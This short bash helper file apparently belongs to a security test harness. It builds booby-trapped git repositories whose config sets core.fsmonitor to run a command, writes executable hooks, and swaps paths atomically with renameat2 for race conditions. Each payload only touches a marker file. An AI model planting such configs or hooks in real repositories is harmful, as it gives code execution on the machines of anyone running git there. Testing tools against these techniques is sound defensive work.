# What the parts of born.bash are written with.
e() { printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch %s; false"\n' "$PWN"; }
head() { if test "$1" = -c; then command head "$@"; else mkdir -p "$1/objects" "$1/refs"; echo 'ref: refs/heads/main' > "$1/HEAD"; fi; }
evil() { head "$1"; e > "$1/config"; }
hook() { printf '#!/bin/sh\ntouch %s\n' "$PWN" > "$1"; chmod +x "$1"; }
own() { echo x > "$1/f"; git -C "$1" add f; git -C "$1" commit -qm own; touch -d @1000000000 "$1/f"; }
py() { EVIL="$(e)" python3 -c "import os, ctypes; L = ctypes.CDLL(None); EVIL = os.environ['EVIL']
$1"; }
xchg() { python3 -c "import ctypes, sys; ctypes.CDLL(None).renameat2(-100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)" "$1" "$2"; }
